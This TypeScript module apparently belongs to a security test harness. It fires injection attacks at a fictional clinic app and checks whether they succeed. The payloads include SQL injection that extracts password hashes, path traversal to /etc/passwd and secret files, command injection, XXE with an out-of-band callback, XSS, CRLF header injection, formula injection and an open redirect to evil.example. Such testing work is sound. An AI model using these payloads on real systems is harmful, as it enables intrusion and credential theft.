import { listen } from './listen.ts';
import type { Attacks } from './target.ts';

const UNION = "zz' UNION SELECT id,username,password_hash,role,5 FROM staff--";

/** Text that becomes a part of something else. */
export const injection = {
  'sql-injection': async (clinic) => {
    const get = (query: string) => clinic.ask('GET', `/patients?${query}`, { as: 'nils.hofmann' });
    const union = await get(new URLSearchParams({ search: UNION }).toString());
    const order = async (letter: string) => {
      const guess = `(SELECT substr(password_hash,2,1) FROM staff WHERE id=1)='${letter}'`;
      const sorted = await get(new URLSearchParams({ sort: `CASE WHEN ${guess} THEN id ELSE -id END` }).toString());
      return sorted.json?.items?.[0]?.id;
    };
    const [right, wrong] = [await order('a'), await order('b')];
    return [union.text.includes('$argon2id$'), right !== undefined && right !== wrong];
  },
  'path-traversal': async (clinic) => {
    const get = async (name: string) =>
      (await clinic.ask('GET', `/documents/download?name=${encodeURIComponent(name)}`, { as: 'nils.hofmann' })).text;
    return [
      (await get('../../../etc/passwd')).includes('root:x:0:0'),
      (await get('../signing-key.json')).includes('"d":'),
      (await get('..\\clinic.env')).includes('DATABASE_PASSWORD'),
    ];
  },
  'operator-injection': async (clinic) => {
    const body = { code: { $ne: '' }, birthDate: { $gt: '' } };
    const nurse = await clinic.ask('POST', '/prescriptions/pickup', { as: 'nils.hofmann', body });
    const doctor = await clinic.ask('POST', '/prescriptions/pickup', {
      as: 'vera.lindqvist',
      body: { code: { $regex: '^PH-' }, birthDate: '1974-11-02' },
    });
    return [nurse.status === 200, doctor.json?.patientId === 2];
  },
  'template-injection': async (clinic) => {
    const write = async (template: string) =>
      (await clinic.ask('POST', '/letters', { as: 'nils.hofmann', body: { patientId: 2, template } })).text;
    return [
      (await write('{{ 1337 * 7331 }}')).includes('9801547'),
      (await write('{{patient.password_hash}}')).includes('$argon2id$'),
    ];
  },
  'command-injection': async (clinic) => {
    const print = async (printer: string) =>
      (await clinic.ask('POST', '/labels', { as: 'nils.hofmann', body: { printer } })).text;
    return [
      (await print('ward; id')).includes('uid=1000(clinic)'),
      (await print('ward | echo $((1337*7331))')).includes('9801547'),
      (await print('$(cat /etc/passwd)')).includes('root:x:0:0'),
    ];
  },
  xxe: async (clinic) => {
    const read = async (declared: string, named: string) => {
      const raw = `<?xml version="1.0"?>${declared}<referral><from>Dr. Who</from><writtenOn>2026-11-01</writtenOn><reason>${named}</reason></referral>`;
      const headers = { 'content-type': 'application/xml' };
      return (await clinic.ask('POST', '/referrals', { as: 'nils.hofmann', headers, raw })).text;
    };
    const bait = await listen((_url, answer) => answer.end('bait'));
    try {
      const file = await read('<!DOCTYPE referral [<!ENTITY f SYSTEM "file:///etc/passwd">]>', '&f;');
      const inner = await read('<!DOCTYPE referral [<!ENTITY a "many "><!ENTITY b "&a;&a;&a;">]>', '&b;&b;');
      await read(`<!DOCTYPE referral [<!ENTITY % o SYSTEM "${bait.url('xxe')}"> %o;]>`, 'nothing');
      return [file.includes('root:x:0:0'), inner.includes('many many many many'), bait.called.includes('/xxe')];
    } finally {
      bait.close();
    }
  },
  'formula-injection': async (clinic) => {
    const body = { insurer: '=2+3+cmd|bait' };
    await clinic.ask('PATCH', '/patients/12', { as: 'yusuf.demir', body });
    const { text } = await clinic.ask('GET', '/export/patients', { as: 'arthur.quinn' });
    return [text.includes(',=2+3+cmd|bait,')];
  },
  'reflected-script': async (clinic) => {
    const { headers, text } = await clinic.ask('GET', `/help?topic=${encodeURIComponent('<script>alert(1)</script>')}`);
    return [headers.get('content-type')?.startsWith('text/html') === true && text.includes('<script>alert(1)')];
  },
  'stored-script': async (clinic) => {
    const as = 'nils.hofmann';
    const note = { patientId: 3, text: '<img src=x onerror=alert(1)>' };
    const { json } = await clinic.ask('POST', '/notes', { as, body: note });
    const { text } = await clinic.ask('GET', `/notes/${json.id}/page`, { as });
    return [text.includes(note.text)];
  },
  'header-injection': async (clinic) => {
    const lang = encodeURIComponent('en\r\nset-cookie: session=theirs');
    const { headers } = await clinic.ask('GET', `/help?topic=booking&lang=${lang}`);
    return [headers.getSetCookie().includes('session=theirs')];
  },
  'log-forging': async (clinic) => {
    const line = '2026-01-01T00:00:00.000Z staff:9 DELETE /patients/1 204';
    await clinic.ask('GET', `/nothing%0A${encodeURIComponent(line)}%0A`);
    const { text } = await clinic.ask('GET', '/log?lines=1000', { as: 'arthur.quinn' });
    return [text.split('\n').includes(line)];
  },
  'open-redirect': async (clinic) => {
    const go = (to: string) => clinic.ask('GET', `/go?to=${encodeURIComponent(to)}`);
    const targets = ['https://evil.example/', '//evil.example/'];
    const answers = await Promise.all(targets.map(go));
    return answers.map(({ status, headers }, index) => status === 302 && headers.get('location') === targets[index]);
  },
} satisfies Partial<Attacks>;
